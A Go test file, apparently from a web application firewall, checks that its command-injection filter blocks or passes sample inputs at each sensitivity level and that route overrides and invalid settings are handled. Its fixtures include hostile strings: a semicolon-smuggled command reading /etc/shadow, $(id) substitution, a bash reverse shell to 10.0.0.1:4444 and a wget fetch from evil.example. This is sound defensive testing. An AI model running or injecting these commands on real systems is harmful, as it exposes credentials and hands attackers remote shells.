package injection

import (
	"fmt"
	"strings"
	"testing"

	"github.com/edgeward/edgeward/policies"
)

// TestSensitivityLevels: level 1 blocks break-outs only, 2 (the default) also command lines
// that are only themselves, 3 a tool's name alone and SQL the default reads as prose; a route's
// sensitivity overrides the section's; out-of-range values refuse to start.
func TestSensitivityLevels(t *testing.T) {
	cases := []struct {
		value string
		min   int // lowest level that blocks it; 0: never
	}{
		{"127.0.0.1; cat /etc/shadow", 1},
		{"x|id", 1},
		{"$(id)", 1},
		{"a\nid", 1},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1},
		{"kubectl get pods -n prod | grep -v Running", 2},
		{"wget http://evil.example/x.sh -O /tmp/x", 2},
		{"visudo", 3},
		{"Please select the best option from the list", 0},
	}
	for level := 1; level <= 4; level++ {
		e := injEngine(t, fmt.Sprintf(`{"injection":{"sensitivity":%d}}`, level))
		for _, c := range cases {
			d, _ := runInj(e, injReq{method: "POST", path: "/api/x", ct: "application/json", body: `{"v":` + jsonQuote(c.value) + `}`})
			want := c.min != 0 && level >= c.min
			if got := d.Action == policies.Deny; got != want {
				t.Errorf("sensitivity %d, %q: blocked %v, want %v", level, c.value, got, want)
			}
		}
	}
	e := injEngine(t, `{"injection":{"sensitivity":2,"routes":[{"path_prefix":"/docs/","sensitivity":1}]}}`)
	if d, _ := runInj(e, injReq{method: "POST", path: "/docs/page", ct: "application/json", body: `{"v":"kubectl get pods -n prod | grep -v Running"}`}); d.Action == policies.Deny {
		t.Errorf("route at level 1 blocked a pipeline")
	}
	if d, _ := runInj(e, injReq{method: "POST", path: "/api/page", ct: "application/json", body: `{"v":"kubectl get pods -n prod | grep -v Running"}`}); d.Action != policies.Deny {
		t.Errorf("section at level 2 passed a pipeline")
	}
	for _, bad := range []string{`{"injection":{"sensitivity":0}}`, `{"injection":{"sensitivity":5}}`, `{"injection":{"routes":[{"sensitivity":"high"}]}}`} {
		if _, err := policies.ParseConfig([]byte(bad)); err == nil || !strings.Contains(err.Error(), "sensitivity") {
			t.Errorf("%s: got %v, want a refusal naming sensitivity", bad, err)
		}
	}
}

func jsonQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}
